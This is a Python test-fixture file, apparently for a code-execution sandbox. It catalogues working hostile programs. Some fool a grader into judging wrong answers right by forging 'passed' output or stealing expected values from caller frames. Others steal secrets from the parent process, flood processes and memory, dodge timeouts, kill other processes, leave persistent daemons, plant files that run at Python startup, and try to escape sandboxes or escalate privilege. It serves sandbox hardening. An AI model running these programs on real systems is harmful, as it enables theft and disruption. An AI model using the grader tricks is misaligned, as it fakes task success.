"""Programs that attack whoever runs them, for test_attacks.py.

Each leaves evidence if it succeeds, and prints its token only after it has done the thing. ``@NAME@`` stands for what
a world (test_attacks.py) has under that name; ``begun`` is what a program prints that means to run for ever.
"""

from dataclasses import dataclass
from typing import Literal

Evidence = Literal[
    "judged",  # a wrong program is judged right
    "printed",  # its token
    "read",  # a secret, in what it printed
    "changed",  # a file outside, or one more of them
    "connected",  # a server of this machine was called
    "killed",  # a process that is not its own
    "survived",  # a process of its own, after its end
    "outlived",  # the time given to it
    "flooded",  # so much output that one should not keep it
]


@dataclass(frozen=True)
class Attack:
    """A program and what shows that it succeeded.

    Attributes:
        call: the function that is called; ``None`` where the program reads standard input.
        again: a second program, run after it; it looks for what the first one left.
        refusable: some machines, or users who are not root, are refused this anyway.
        as_nobody: run by a user without other processes where nothing isolates it.
    """

    name: str
    shows: Evidence
    program: str
    call: str | None = None
    again: str | None = None
    refusable: bool = False
    as_nobody: bool = False


_RAW = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def raw(x86_64, aarch64, *arguments):
    number = x86_64 if os.uname().machine == "x86_64" else aarch64
    words = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return libc.syscall(ctypes.c_long(number), *words)
def won(result):
    if result >= 0:
        print("@TOKEN@", flush=True)
"""
_LOOP = """
print("begun", flush=True)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
_SURVIVOR = '[sys.executable, "-c", "import time; time.sleep(60)", "@MARKER@"]'


def _finds(body: str) -> str:
    """A ``find`` that returns what this body, indented by eight, returns."""
    return f"import gc, inspect, json, sys, threading\nclass Solution:\n    def find(self, n):\n{body}"


_COMPARING = (
    Attack(
        "an_object_equal_to_everything",
        "judged",
        _finds("""
        class Anything:
            def __eq__(self, other):
                return True
        return Anything()
"""),
        call="find",
    ),
    *(
        Attack(
            f"a_kind_of_{kind}_equal_to_everything",
            "judged",
            _finds(f"""
        class Anything({kind}):
            __hash__ = None
            def __eq__(self, other):
                return True
        return Anything()
"""),
            call="find",
        )
        for kind in ("int", "str", "float", "list", "dict")
    ),
    Attack(
        "an_object_that_poses_as_an_array",
        "judged",
        _finds("""
        class Anything:
            def __eq__(self, other):
                return True
            def tolist(self):
                return self
        return Anything()
"""),
        call="find",
    ),
    Attack(
        "json_that_says_passed",
        "judged",
        "import json\njson.dumps = lambda *a, **k: '{\"passed\": true}'\n" + _finds("        return 0\n"),
        call="find",
    ),
    Attack(
        "print_that_says_passed",
        "judged",
        """
import builtins
honest = builtins.print
builtins.print = lambda *words, **named: honest(*(str(word).replace("false", "true") for word in words), **named)
class Solution:
    def find(self, n):
        return 0
""",
        call="find",
    ),
    Attack(
        "standard_output_that_says_passed",
        "judged",
        """
import sys
class Liar:
    def write(self, text):
        return sys.__stdout__.write(text.replace("false", "true"))
    def flush(self):
        sys.__stdout__.flush()
sys.stdout = Liar()
class Solution:
    def find(self, n):
        return 0
""",
        call="find",
    ),
    Attack(
        "a_verdict_of_its_own_and_a_quick_end",
        "judged",
        "import os\nprint('{\"passed\": true}', flush=True)\nos._exit(0)\n",
        call="find",
    ),
    Attack(
        "a_verdict_of_its_own_at_exit",
        "judged",
        "import atexit, os\natexit.register(lambda: os.write(1, b'{\"passed\": true}\\n'))\n"
        + _finds("        return 0\n"),
        call="find",
    ),
    Attack(
        "another_expected_value_put_in_place",
        "judged",
        _finds("""
        import ctypes
        frame = sys._getframe()
        while frame:
            if "expected" in frame.f_locals:
                frame.f_locals["expected"] = 0
                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
            frame = frame.f_back
        return 0
"""),
        call="find",
    ),
)

_FINDING = (
    Attack(
        "expected_value_in_a_calling_frame",
        "judged",
        _finds("""
        frame = sys._getframe()
        while frame and "expected" not in frame.f_locals:
            frame = frame.f_back
        return frame.f_locals["expected"]
"""),
        call="find",
    ),
    Attack(
        "expected_value_by_inspect",
        "judged",
        _finds("""
        return [one.frame.f_locals["expected"] for one in inspect.stack() if "expected" in one.frame.f_locals][0]
"""),
        call="find",
    ),
    Attack(
        "expected_value_behind_a_traceback",
        "judged",
        _finds("""
        try:
            1 / 0
        except ZeroDivisionError as error:
            frame = error.__traceback__.tb_frame
        while "expected" not in frame.f_locals:
            frame = frame.f_back
        return frame.f_locals["expected"]
"""),
        call="find",
    ),
    Attack(
        "expected_value_seen_from_another_thread",
        "judged",
        _finds("""
        found = []
        def look():
            for frame in sys._current_frames().values():
                while frame:
                    found.extend([frame.f_locals["expected"]] if "expected" in frame.f_locals else [])
                    frame = frame.f_back
        thread = threading.Thread(target=look)
        thread.start()
        thread.join()
        return found[0]
"""),
        call="find",
    ),
    Attack(
        "expected_value_among_the_collector_s_objects",
        "judged",
        _finds("""
        for one in gc.get_objects():
            if isinstance(one, dict) and "expected" in one and "program" in one:
                return json.loads(one["expected"])
"""),
        call="find",
    ),
    Attack(
        "expected_value_in_the_main_module",
        "judged",
        _finds("""
        return json.loads(sys.modules["__main__"].JOB["expected"])
"""),
        call="find",
    ),
    Attack(
        "expected_value_in_the_tests_file",
        "judged",
        _finds("""
        return json.loads(json.load(open(sys.argv[1]))["expected"])
"""),
        call="find",
    ),
)

_READING = (
    Attack("a_secret_beside_it", "read", 'print(open("secret.txt").read())'),
    Attack("a_secret_in_the_home_folder", "read", 'import os\nprint(open(os.path.expanduser("~/.token")).read())'),
    Attack("a_secret_by_its_full_path", "read", 'print(open("@FOLDER@/secret.txt").read())'),
    Attack("a_secret_in_the_environment", "read", 'import os\nprint(os.environ["PERMIX_ATTACK_SECRET"])'),
    Attack(
        "a_secret_in_its_parent_s_environment",
        "read",
        'import os\nprint(open(f"/proc/{os.getppid()}/environ").read())',
    ),
    Attack(
        "a_secret_in_a_file_that_its_parent_has_open",
        "read",
        """
import json, os
folder = f"/proc/{os.getppid()}/fd"
for one in os.listdir(folder):
    if os.path.isfile(f"{folder}/{one}"):
        text = open(f"{folder}/{one}").read()
        if text.startswith("{"):
            print(json.loads(text)["secret"])
""",
    ),
    Attack(
        "a_secret_in_its_parent_s_memory",
        "read",
        """
import os, re
process = f"/proc/{os.getppid()}"
with open(f"{process}/mem", "rb") as memory:
    for line in open(f"{process}/maps"):
        place, rights, *_ = line.split()
        if rights.startswith("rw"):
            first, end = (int(word, 16) for word in place.split("-"))
            try:
                memory.seek(first)
                found = re.search(rb"secret-[0-9a-f]{32}", memory.read(end - first))
            except OSError:
                continue
            if found:
                print(found[0].decode())
""",
        refusable=True,
    ),
    Attack(
        "a_descriptor_taken_from_its_parent",
        "read",
        _RAW
        + """
import json
parent = os.pidfd_open(os.getppid())
for number in range(3, 64):
    taken = raw(438, 438, parent, number, 0)
    if taken >= 0:
        try:
            os.lseek(taken, 0, os.SEEK_SET)
            text = os.read(taken, 1 << 20)
        except OSError:
            continue
        if text.startswith(b"{"):
            print(json.loads(text)["secret"])
""",
        refusable=True,
    ),
    Attack(
        "a_secret_by_a_hard_link",
        "read",
        """
import os, tempfile
link = tempfile.mkdtemp() + "/link"
os.link("@FOLDER@/secret.txt", link)
print(open(link).read())
""",
    ),
    Attack(
        "a_secret_by_a_symbolic_link",
        "read",
        """
import os, tempfile
link = tempfile.mkdtemp() + "/link"
os.symlink("@FOLDER@", link)
print(open(link + "/secret.txt").read())
""",
    ),
    Attack(
        "the_project_s_sources",
        "printed",
        """
if "class Sandbox" in open("@ROOT@/permix_verl/sandbox/run.py").read():
    print("@TOKEN@")
""",
    ),
    Attack("the_machine_s_users", "printed", 'if "root:" in open("/etc/passwd").read():\n    print("@TOKEN@")\n'),
    Attack(
        "the_kernel_s_log",
        "printed",
        _RAW + "buffer = ctypes.create_string_buffer(1 << 16)\nwon(raw(103, 116, 3, buffer, len(buffer)))\n",
        refusable=True,
    ),
)

_PROCESSES = (
    Attack(
        "sixty_processes_by_fork",
        "printed",
        """
import os, signal
children = []
try:
    for _ in range(60):
        child = os.fork()
        if not child:
            signal.alarm(30)
            signal.pause()
            os._exit(0)
        children.append(child)
    for child in children:
        os.kill(child, 0)
    print("@TOKEN@", flush=True)
finally:
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
""",
    ),
    Attack(
        "a_process_by_the_bare_call",
        "printed",
        _RAW
        + """
child = raw(56, 220, 17, 0, 0, 0, 0)
if child == 0:
    os._exit(7)
if child > 0 and os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
    print("@TOKEN@")
""",
    ),
    Attack(
        "a_process_by_clone3",
        "printed",
        _RAW
        + """
import struct
settings = ctypes.create_string_buffer(struct.pack("=11Q", 0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)
child = raw(435, 435, settings, 88)
if child == 0:
    os._exit(7)
if child > 0 and os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
    print("@TOKEN@")
""",
    ),
    Attack(
        "a_command_by_subprocess",
        "printed",
        """
import subprocess, sys
done = subprocess.run([sys.executable, "-c", "print(6 * 7)"], capture_output=True, text=True)
if done.stdout == "42\\n":
    print("@TOKEN@")
""",
    ),
    Attack(
        "a_command_by_posix_spawn",
        "printed",
        """
import os, sys
child = os.posix_spawn(sys.executable, [sys.executable, "-c", "raise SystemExit(7)"], {})
if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
    print("@TOKEN@")
""",
    ),
    Attack("a_command_by_the_shell", "printed", 'import os\nif os.system("exit 7") == 7 << 8:\n    print("@TOKEN@")\n'),
    Attack("a_shell_in_its_place", "printed", 'import os\nos.execv("/bin/sh", ["sh", "-c", "echo @TOKEN@"])\n'),
    Attack(
        "a_pool_of_processes",
        "printed",
        """
import multiprocessing, os
if __name__ == "__main__":
    def number(queue):
        queue.put(os.getpid())
    context = multiprocessing.get_context("fork")
    queue = context.SimpleQueue()
    process = context.Process(target=number, args=(queue,))
    process.start()
    if queue.get() != os.getpid():
        print("@TOKEN@")
    process.join()
""",
    ),
    Attack(
        "two_hundred_threads",
        "printed",
        """
import threading
threading.stack_size(1 << 16)
hold = threading.Event()
threads = [threading.Thread(target=hold.wait, daemon=True) for _ in range(200)]
try:
    for thread in threads:
        thread.start()
    if threading.active_count() > 200:
        print("@TOKEN@", flush=True)
finally:
    hold.set()
""",
    ),
)

_FILES_OF_320_MB = """
for number in range(40):
    with {open} as file:
        for _ in range(8):
            file.write(b"x" * (1 << 20))
        file.flush()
        assert os.fstat(file.fileno()).st_blocks * 512 >= 8 << 20
        {keep}
print("@TOKEN@", flush=True)
"""

_MEMORY = (
    Attack(
        "a_list_of_320_mb",
        "printed",
        """
import resource
held = [b"x" * (1 << 20) for _ in range(320)]
if resource.getrusage(resource.RUSAGE_SELF).ru_maxrss > 300_000:
    print("@TOKEN@")
""",
    ),
    Attack(
        "a_bytearray_of_320_mb",
        "printed",
        """
import resource
held = bytearray(b"x") * (320 << 20)
if resource.getrusage(resource.RUSAGE_SELF).ru_maxrss > 300_000:
    print("@TOKEN@")
""",
    ),
    Attack(
        "shared_memory_of_320_mb",
        "printed",
        """
import mmap, resource
held = [mmap.mmap(-1, 20 << 20) for _ in range(16)]
for one in held:
    for place in range(0, len(one), mmap.PAGESIZE):
        one[place] = 1
if resource.getrusage(resource.RUSAGE_SELF).ru_maxrss > 300_000:
    print("@TOKEN@")
""",
    ),
    Attack(
        "files_of_320_mb_in_memory",
        "printed",
        "import os\nheld = []\n"
        + _FILES_OF_320_MB.format(
            open='os.fdopen(os.memfd_create("x"), "wb")', keep="held.append(os.dup(file.fileno()))"
        ),
    ),
    Attack(
        "files_of_320_mb_in_the_temporary_folder",
        "printed",
        "import os, tempfile\nfolder = tempfile.mkdtemp()\n"
        + _FILES_OF_320_MB.format(open='open(f"{folder}/{number}", "wb")', keep="pass"),
    ),
    Attack(
        "files_of_320_mb_in_dev_shm",
        "printed",
        "import os\ntry:"
        + _FILES_OF_320_MB.format(open='open(f"/dev/shm/@MARKER@-{number}", "wb")', keep="pass").replace("\n", "\n    ")
        + """
finally:
    for number in range(40):
        if os.path.exists(f"/dev/shm/@MARKER@-{number}"):
            os.unlink(f"/dev/shm/@MARKER@-{number}")
""",
    ),
    Attack(
        "system_v_shared_memory",
        "printed",
        _RAW
        + """
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0, ctypes.c_size_t(64 << 20), 0o1600)
if segment >= 0:
    place = libc.shmat(segment, None, 0)
    libc.shmctl(segment, 0, None)
    ctypes.memset(place, 1, 64 << 20)
    print("@TOKEN@")
""",
    ),
    Attack(
        "attributes_of_300_mb",
        "printed",
        """
import os, tempfile
folder = "/dev/shm" if os.path.isdir("/dev/shm") else "/tmp"
with tempfile.NamedTemporaryFile(dir=folder) as file:
    for number in range(5000):
        os.setxattr(file.name, f"user.{number}", b"x" * 60_000)
    if sum(len(os.getxattr(file.name, f"user.{number}")) for number in range(5000)) == 300_000_000:
        print("@TOKEN@")
""",
        refusable=True,
    ),
    Attack(
        "memory_that_pipes_keep_after_it_is_given_back",
        "printed",
        _RAW
        + """
import fcntl, mmap
class Piece(ctypes.Structure):
    _fields_ = [("place", ctypes.c_void_p), ("length", ctypes.c_size_t)]
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
pipes = [os.pipe() for _ in range(20)]
size, kept = 1 << 20, 0
for _, end in pipes:
    fcntl.fcntl(end, fcntl.F_SETPIPE_SZ, size)
    place = libc.mmap(None, size, 3, 0x22, -1, 0)
    ctypes.memset(place, ord("x"), size)
    spliced = libc.vmsplice(end, ctypes.byref(Piece(place, size)), ctypes.c_size_t(1), 0)
    libc.munmap(place, size)
    kept += max(spliced, 0)
if kept == 20 * size and os.read(pipes[0][0], 5) == b"xxxxx":
    print("@TOKEN@")
""",
        refusable=True,
    ),
    Attack(
        "memory_locked_in_place",
        "printed",
        _RAW + "held = ctypes.create_string_buffer(32 << 20)\nwon(libc.mlock(held, ctypes.c_size_t(32 << 20)))\n",
        refusable=True,
    ),
    Attack(
        "all_asynchronous_requests_of_the_machine",
        "printed",
        _RAW + "won(raw(206, 0, 20_000, ctypes.byref(ctypes.c_ulong(0))))\n",
        refusable=True,
    ),
)

_FLOODS = tuple(
    Attack(
        f"a_flood_on_{name}",
        "flooded",
        f"import os\nfor _ in range(256):\n    os.write({number}, b'x' * (1 << 16))\n",
    )
    for name, number in (("standard_output", 1), ("standard_error", 2))
)

_TIME = (
    Attack(
        "a_loop_that_catches_every_signal",
        "outlived",
        """
import signal
for number in signal.valid_signals():
    try:
        signal.signal(number, lambda *_: None)
    except (OSError, ValueError):
        pass
signal.alarm(0)
"""
        + _LOOP,
    ),
    Attack("a_loop_that_swallows_what_ends_it", "outlived", _LOOP),
    Attack(
        "a_loop_that_blocks_signals",
        "outlived",
        "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())\n" + _LOOP,
    ),
    Attack(
        "a_loop_in_c",
        "outlived",
        'import itertools\nprint("begun", flush=True)\nsum(itertools.repeat(0))\n',
    ),
    Attack(
        "a_loop_without_outputs",
        "outlived",
        """
import os, signal
signal.alarm(0)
print("begun", flush=True)
for number in range(3):
    os.close(number)
while True:
    pass
""",
    ),
    Attack(
        "a_sleep_for_ever",
        "outlived",
        'import signal, time\nsignal.alarm(0)\nprint("begun", flush=True)\nwhile True:\n    time.sleep(1)\n',
    ),
    Attack(
        "a_stop_for_ever",
        "outlived",
        'import os, signal\nprint("begun", flush=True)\nos.kill(os.getpid(), signal.SIGSTOP)\n',
    ),
)

_SOCKETS = (
    Attack(
        "a_connection_by_tcp",
        "connected",
        'import socket\nsocket.create_connection(("127.0.0.1", @TCP@), 5).sendall(b"x")\n',
    ),
    Attack(
        "a_name_asked_for_by_udp",
        "connected",
        """
import socket
question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\0\\0\\1\\0\\1"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", @UDP@))
""",
    ),
    Attack(
        "a_connection_by_an_abstract_name",
        "connected",
        'import socket\nsocket.socket(socket.AF_UNIX).connect("\\0@MARKER@")\n',
    ),
    Attack(
        "a_connection_by_a_file",
        "connected",
        'import os, socket\nos.chdir("@FOLDER@")\nsocket.socket(socket.AF_UNIX).connect("door")\n',
    ),
    Attack(
        "a_server_of_its_own",
        "printed",
        """
import socket
server = socket.create_server(("127.0.0.1", 0))
socket.create_connection(server.getsockname(), 5)
server.accept()
print("@TOKEN@")
""",
    ),
    *(
        Attack(
            f"a_socket_of_family_{name}",
            "printed",
            f'import socket\nsocket.socket({family}, {kind}, {protocol})\nprint("@TOKEN@")\n',
            refusable=True,
        )
        for name, family, kind, protocol in (
            ("vsock", 40, 1, 0),
            ("alg", 38, 5, 0),
            ("netlink", 16, 3, 0),
            ("packet", 17, 3, 0),
            ("bluetooth", 31, 3, 0),
        )
    ),
)

_WRITING = (
    Attack("a_file_beside_it", "changed", 'open("@FOLDER@/work/loot", "w").write("x")'),
    Attack("a_file_in_its_folder", "changed", 'open("loot", "w").write("x")'),
    Attack(
        "a_file_in_the_home_folder", "changed", 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("loot")\n'
    ),
    Attack(
        "a_path_file_for_later_pythons",
        "changed",
        """
import os, site
folder = site.getusersitepackages()
os.makedirs(folder, exist_ok=True)
open(f"{folder}/loot.pth", "w").write("import os\\n")
open(f"{folder}/usercustomize.py", "w").write("import os\\n")
""",
    ),
    Attack(
        "a_file_through_a_symbolic_link",
        "changed",
        """
import os, tempfile
link = tempfile.mkdtemp() + "/link"
os.symlink("@FOLDER@/work/loot", link)
open(link, "w").write("x")
""",
    ),
    Attack(
        "a_folder_put_in_place_of_another",
        "changed",
        'import os\nos.rename("@FOLDER@/work", "@FOLDER@/gone")\nos.mkdir("@FOLDER@/work")\n',
    ),
    Attack(
        "its_runner_overwritten",
        "changed",
        """
import sys
frame = sys._getframe()
while frame.f_back:
    frame = frame.f_back
open(frame.f_code.co_filename, "a").write("# loot\\n")
""",
    ),
    Attack(
        "its_interpreter_replaced",
        "changed",
        """
import os, sys, tempfile
other = os.path.dirname(sys.executable) + "/other"
open(other, "w").write("#!/bin/sh\\n")
os.replace(other, sys.executable)
""",
    ),
    Attack(
        "a_device_of_its_own",
        "printed",
        """
import os, stat, tempfile
device = tempfile.mkdtemp() + "/device"
os.mknod(device, stat.S_IFCHR | 0o600, os.makedev(1, 5))
if open(device, "rb").read(3) == b"\\0\\0\\0":
    print("@TOKEN@")
""",
        refusable=True,
    ),
    Attack(
        "a_time_left_at_a_device",
        "changed",
        'import os\nos.utime("/dev/null")\n',
        refusable=True,
    ),
)

_KILLING = (
    Attack("its_parent_killed", "killed", "import os\nos.kill(os.getppid(), 9)\n"),
    Attack("its_group_killed", "killed", "import os\nos.killpg(os.getpgrp(), 9)\n"),
    Attack("everyone_killed", "killed", "import os\nos.kill(-1, 9)\n", refusable=True, as_nobody=True),
)

_SURVIVING = (
    Attack(
        "a_daemon_by_two_forks",
        "survived",
        f"""
import os, sys
if not os.fork():
    os.setsid()
    if not os.fork():
        os.execv(sys.executable, {_SURVIVOR})
    os._exit(0)
os.wait()
""",
    ),
    Attack(
        "a_process_of_another_session",
        "survived",
        f"""
import signal, subprocess, sys
signal.signal(signal.SIGHUP, signal.SIG_IGN)
nothing = subprocess.DEVNULL
subprocess.Popen({_SURVIVOR}, start_new_session=True, stdin=nothing, stdout=nothing, stderr=nothing)
""",
    ),
    Attack(
        "a_process_of_another_session_by_posix_spawn",
        "survived",
        f"""
import os, sys
os.posix_spawn(sys.executable, {_SURVIVOR}, dict(os.environ), setsid=True)
""",
    ),
)

_FILE_LEFT = 'open({name}, "w").write("x")\n'
_FILE_FOUND = 'if os.path.exists({name}):\n    os.unlink({name})\n    print("@TOKEN@")\n'

_POISONING = (
    *(
        Attack(
            f"a_file_left_in_{where}",
            "printed",
            "import os, tempfile\n" + _FILE_LEFT.format(name=name),
            again="import os, tempfile\n" + _FILE_FOUND.format(name=name),
        )
        for where, name in (
            ("the_temporary_folder", 'tempfile.gettempdir() + "/@MARKER@"'),
            ("dev_shm", '"/dev/shm/@MARKER@"'),
            ("var_tmp", '"/var/tmp/@MARKER@"'),
        )
    ),
    Attack(
        "a_key_left_in_a_keyring",
        "printed",
        _RAW
        + """
key = raw(248, 217, b"user", b"@MARKER@", b"x", 1, -4)
raw(250, 219, 15, key, 60)
""",
        again=_RAW
        + """
key = raw(250, 219, 10, -4, b"user", b"@MARKER@", 0)
won(key)
raw(250, 219, 21, key)
""",
        refusable=True,
    ),
    Attack(
        "a_message_left_in_a_queue",
        "printed",
        _RAW + "libc.msgget(@NUMBER@, 0o1600)\n",
        again=_RAW + "queue = libc.msgget(@NUMBER@, 0)\nwon(queue)\nlibc.msgctl(queue, 0, None)\n",
        refusable=True,
    ),
    Attack(
        "a_posix_queue_left",
        "printed",
        _RAW + 'libc.mq_open(b"/@MARKER@", os.O_CREAT | os.O_RDWR, 0o600, None)\n',
        again=_RAW + 'won(libc.mq_open(b"/@MARKER@", os.O_RDWR))\nlibc.mq_unlink(b"/@MARKER@")\n',
        refusable=True,
    ),
    Attack(
        "a_semaphore_left",
        "printed",
        _RAW + "libc.semget(@NUMBER@, 1, 0o1600)\n",
        again=_RAW + "one = libc.semget(@NUMBER@, 0, 0)\nwon(one)\nlibc.semctl(one, 0, 0)\n",
        refusable=True,
    ),
)

_RIGHTS = (
    Attack(
        "its_own_limits_raised",
        "printed",
        """
import resource
for name in ("RLIMIT_CPU", "RLIMIT_AS", "RLIMIT_FSIZE"):
    kind = getattr(resource, name)
    resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.getrlimit(kind)[1]))
print("@TOKEN@")
""",
        refusable=True,
    ),
    Attack(
        "root_again",
        "printed",
        'import os\nos.setuid(0)\nif os.geteuid() == 0:\n    print("@TOKEN@")\n',
        refusable=True,
    ),
    Attack(
        "more_of_the_processor", "printed", 'import os\nif os.nice(-5) < 0:\n    print("@TOKEN@")\n', refusable=True
    ),
    Attack(
        "its_parent_traced",
        "printed",
        _RAW + "libc.ptrace.argtypes = [ctypes.c_long] * 4\nwon(libc.ptrace(0x4206, os.getppid(), 0, 0))\n",
        refusable=True,
    ),
    Attack(
        "a_mount_in_namespaces_of_its_own",
        "printed",
        _RAW
        + """
import tempfile
folder = tempfile.mkdtemp().encode()
if libc.unshare(0x10020000) == 0:
    won(libc.mount(b"none", folder, b"tmpfs", ctypes.c_ulong(0), None))
""",
        refusable=True,
    ),
    Attack(
        "namespaces_chosen_anew",
        "printed",
        _RAW + 'won(libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0))\n',
        refusable=True,
    ),
    Attack(
        "another_root_folder",
        "printed",
        'import os, tempfile\nos.chroot(tempfile.mkdtemp())\nif not os.listdir("/"):\n    print("@TOKEN@")\n',
        refusable=True,
    ),
    Attack(
        "the_clock_set",
        "printed",
        'import time\ntime.clock_settime(time.CLOCK_REALTIME, time.time())\nprint("@TOKEN@")\n',
        refusable=True,
    ),
    Attack(
        "the_host_s_name_set",
        "printed",
        'import socket\nsocket.sethostname(socket.gethostname())\nprint("@TOKEN@")\n',
        refusable=True,
    ),
    Attack(
        "io_uring",
        "printed",
        _RAW + "won(raw(425, 425, 4, ctypes.create_string_buffer(120)))\n",
        refusable=True,
    ),
    Attack(
        "bpf",
        "printed",
        _RAW
        + """
import struct
settings = ctypes.create_string_buffer(struct.pack("=4I", 2, 4, 8, 1), 72)
won(raw(321, 280, 0, settings, 72))
""",
        refusable=True,
    ),
    Attack(
        "perf_event_open",
        "printed",
        _RAW
        + """
import struct
settings = ctypes.create_string_buffer(struct.pack("=2IQ", 1, 64, 0), 64)
won(raw(298, 241, settings, 0, -1, -1, 0))
""",
        refusable=True,
    ),
    Attack("userfaultfd", "printed", _RAW + "won(raw(323, 282, 1))\n", refusable=True),
    Attack("memfd_secret", "printed", _RAW + "won(raw(447, 447, 0))\n", refusable=True),
    Attack(
        "a_file_opened_by_its_handle",
        "printed",
        _RAW
        + """
import struct
handle = ctypes.create_string_buffer(struct.pack("=2I", 128, 0), 136)
mount = ctypes.c_int()
if raw(303, 264, -100, b".", handle, ctypes.byref(mount), 0) == 0:
    won(raw(304, 265, os.open(".", os.O_RDONLY), handle, os.O_RDONLY))
""",
        refusable=True,
    ),
)

ATTACKS: tuple[Attack, ...] = (
    *_COMPARING,
    *_FINDING,
    *_READING,
    *_PROCESSES,
    *_MEMORY,
    *_FLOODS,
    *_TIME,
    *_SOCKETS,
    *_WRITING,
    *_KILLING,
    *_SURVIVING,
    *_POISONING,
    *_RIGHTS,
)
